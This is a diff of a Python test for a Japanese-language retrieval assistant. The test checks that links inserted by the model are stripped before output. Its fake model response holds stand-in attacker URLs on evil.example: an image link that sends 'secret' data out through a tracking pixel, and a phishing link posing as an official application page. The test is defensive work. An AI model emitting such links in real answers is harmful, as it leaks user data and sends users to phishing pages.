@@ -113,13 +113,13 @@ def test_links_written_by_the_model_never_reach_the_user(assistant):
 
     question = "営業秘密の3要件とは"
     hits = assistant.retriever.search(question, k=assistant.settings.top_k)
-    top = [s.rstrip("。") for s in sentences(hits[0].chunk.text) if len(s) > 25][:4]
+    top = [s.rstrip("。") for s in sentences(hits[0].chunk.text) if len(s) > 25][:3]
+    assert len(top) == 3, "the test needs a first passage with three sentences"
     own = hits[0].chunk.metadata["url"]
     llm_text = "\n".join([
         f"{top[0]}[1]。",
         f"{top[1]}、https://evil.example/x [1]。",
-        f"{top[2]}[1]。",
-        f"{top[3]}（{own}）[1]。",
+        f"{top[2]}（{own}）[1]。",
         "![図](https://evil.example/pixel.png?d=secret) [公式の申請ページ](https://evil.example/phish) <https://evil.example/a>",
     ])
     turn = _fake(assistant, llm_text).prepare(question, engine="fake")
